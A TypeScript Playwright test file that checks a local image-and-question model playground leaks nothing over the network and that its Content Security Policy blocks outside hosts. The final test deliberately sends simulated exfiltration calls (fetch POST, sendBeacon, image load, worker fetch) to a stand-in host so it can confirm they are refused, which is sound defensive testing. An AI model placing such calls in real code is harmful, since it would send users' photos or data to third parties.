/**
 * What leaves the machine: nothing, unless a person asks for a model, and then only names of model files. A proxy in front of
 * the whole browser profile sees every request, also those of workers.
 */
import { readdirSync } from 'node:fs';
import { resolve } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { serveFolder } from '../../scripts/serve.mjs';
import { FIGURE_IDS } from '../../src/state/settings.ts';
import { type FakeHub, startFakeHub } from '../support/fakeHub.ts';
import { ask, buttonOf, closeDialog, openDialog, readProblem, setHubAddress, waitForEncoder } from './support/encoderDialog.ts';
import { REPOSITORIES } from './support/models.ts';
import { outputPath } from './support/output.ts';
import { openPlayground, type Playground, readExport, waitForExport } from './support/playground.ts';
import { type SeenRequest, watchNetwork, type WatchedNetwork } from './support/watchedNetwork.ts';

const QUESTION = 'Where is the confidential cat?';
const CLIP = 'CLIP ViT-B/32';
/** More than a browser says of itself, and less than a photo. */
const MOST_HEADER_LENGTH = 1500;

let network: WatchedNetwork;
let hub: FakeHub;
let server: Awaited<ReturnType<typeof serveFolder>>;
let playground: Playground;

beforeAll(async () => {
  network = await watchNetwork();
  hub = await startFakeHub(REPOSITORIES);
  const modelOrigins = [hub.base.origin, hub.contentOrigin];
  server = await serveFolder(resolve('dist'), { port: 0, attempts: 1, modelHosts: modelOrigins });
  const place = { address: server.address, modelOrigins: [...modelOrigins, 'https://huggingface.co'] };
  playground = await openPlayground('device=cpu', { proxy: { server: network.server }, reducedMotion: 'reduce' }, undefined, place);
});

afterAll(async () => {
  await playground?.close();
  await server?.close();
  await hub?.close();
  await network?.close();
});

function isOfPage({ url }: SeenRequest): boolean {
  return `${url.origin}/` === server.address;
}

/** What a request carries beside the name of a file, and there should be nothing. */
function findCargo({ method, url, headers, bodyLength }: SeenRequest): string[] {
  const lengths = Object.entries(headers).map(([name, value]) => name.length + String(value).length);
  const headerLength = lengths.reduce((sum, length) => sum + length, 0);
  return [
    ...(method === 'GET' ? [] : [method]),
    ...(bodyLength === 0 ? [] : [`${bodyLength} bytes`]),
    ...(headerLength <= MOST_HEADER_LENGTH ? [] : [`headers of ${headerLength} characters`]),
    ...(headers.cookie === undefined && headers.referer === undefined ? [] : ['a cookie or referrer']),
    ...(/confidential|wall/i.test(decodeURIComponent(url.href) + JSON.stringify(headers)) ? ['question or photo name'] : []),
  ].map((cargo) => `${cargo} to ${url.href.slice(0, 200)}`);
}

async function openFigure(page: Page, id: string): Promise<void> {
  // An empty sample leaves the person's own photo where it is.
  await page.evaluate((figure) => {
    window.location.hash = `device=cpu&sample=&m=48&figure=${figure}`;
  }, id);
  await page.locator(`.figure[data-id="${id}"]`).waitFor();
}

async function useEverything(page: Page): Promise<void> {
  await page.getByRole('radio', { name: /coffee/i }).click();
  await waitForExport(page, ({ image }) => image === 'coffee.png');
  await page.getByLabel('Image', { exact: true }).setInputFiles(outputPath('wall.png'));
  await ask(page, QUESTION);
  await waitForExport(page, ({ image, question }) => image === 'wall.png' && question === QUESTION);
  for (const name of ['Threshold τ', 'Gamma γ', 'Prune ratio p']) {
    await page.getByRole('slider', { name, exact: true }).focus();
    await page.keyboard.press('ArrowRight');
  }
  await page.getByRole('button', { name: 'Budget 32', exact: true }).click();
  for (const id of FIGURE_IDS) await openFigure(page, id);
  await openFigure(page, 'neighbour-redundancy');
  for (const kind of ['SVG', 'PNG', 'CSV']) {
    const saved = page.waitForEvent('download');
    await page.locator('.figure-tools').getByRole('button', { name: kind, exact: true }).click();
    await (await saved).delete();
  }
  await closeDialog(await openDialog(page));
  expect((await readExport(page)).image).toBe('wall.png');
}

it('asks for files of the page and for nothing else, whatever is done with a photo and a question', async () => {
  await useEverything(playground.page);
  const files = new Set(readdirSync('dist', { recursive: true, encoding: 'utf8' }).map((path) => `/${path.replaceAll('\\', '/')}`));
  const paths = network.requests.map(({ url }) => decodeURIComponent(url.pathname) + url.search);
  // The worker's own requests are among those that are seen.
  for (const pattern of [/^\/$/, /worker/, /\.wasm$/, /\/models\/.*\.onnx$/, /\/samples\/coffee\.png$/]) expect(paths).toContainEqual(expect.stringMatching(pattern));
  expect(network.requests.filter((request) => !isOfPage(request)).map(({ url }) => url.href)).toEqual([]);
  expect(paths.filter((path) => path !== '/' && !files.has(path))).toEqual([]);
  expect(network.requests.flatMap(findCargo)).toEqual([]);
  expect(network.refused).toEqual([]);
  expect(playground.problems).toEqual([]);
});

it('asks the hub, and nobody else, for a model that a person asks for', async () => {
  const dialog = await openDialog(playground.page);
  await buttonOf(dialog, CLIP).click();
  expect(await readProblem(dialog)).toContain('huggingface.co');
  expect(new Set(network.refused)).toEqual(new Set(['huggingface.co:443']));
  expect(network.requests.filter((request) => !isOfPage(request))).toEqual([]);
});

it('tells a mirror the names of model files and nothing of photo and question', async () => {
  const { page } = playground;
  network.refused.length = 0;
  const dialog = page.getByRole('dialog', { name: 'Encoder' });
  await setHubAddress(dialog, hub.base.href);
  await buttonOf(dialog, CLIP).click();
  await waitForEncoder(page, CLIP);
  await waitForExport(page, ({ image, n }) => image === 'wall.png' && n < 576);
  const sent = network.requests.filter((request) => !isOfPage(request));
  expect(new Set(sent.map(({ url }) => url.origin))).toEqual(new Set([hub.base.origin, hub.contentOrigin]));
  expect(sent.map(({ url }) => url.pathname)).toContain('/Xenova/clip-vit-base-patch32/resolve/0123456789abcdef0123456789abcdef01234567/tokenizer.json');
  expect(network.requests.flatMap(findCargo)).toEqual([]);
  expect(network.refused).toEqual([]);

  const count = network.requests.length;
  await ask(page, `${QUESTION} And now?`);
  await waitForExport(page, ({ question }) => question === `${QUESTION} And now?`);
  expect(network.requests.slice(count).map(({ url }) => url.href)).toEqual([]);
});

it('lets no script of page or worker ask another host', async () => {
  const { page } = playground;
  const count = network.requests.length;
  const outcomes = await page.evaluate(async () => {
    // Header and page forbid it, each with an event of its own.
    const forbidden = new Set<string>();
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => forbidden.add(`${effectiveDirective} ${blockedURI}`));
    await fetch('https://elsewhere.example/post', { method: 'POST', body: 'photo' }).catch(() => undefined);
    navigator.sendBeacon('https://elsewhere.example/beacon', 'photo');
    const image = new Image();
    image.src = 'https://elsewhere.example/photo.png';
    await new Promise((settle) => image.addEventListener('error', settle));
    return [...forbidden];
  });
  expect(outcomes).toEqual(['connect-src https://elsewhere.example/post', 'connect-src https://elsewhere.example/beacon', 'img-src https://elsewhere.example/photo.png']);
  expect(playground.problems).toContainEqual(expect.stringMatching(/policy violation: img-src of https:\/\/elsewhere\.example/));
  const [worker] = page.workers();
  const outcome = await worker.evaluate(() => fetch('https://elsewhere.example/worker').then(String, String));
  expect(outcome).toMatch(/^TypeError/);
  await expect.poll(() => playground.problems).toContainEqual(expect.stringMatching(/policy violation: connect-src of https:\/\/elsewhere\.example\/worker/));
  expect(network.refused).toEqual([]);
  expect(network.requests.length).toBe(count);
});
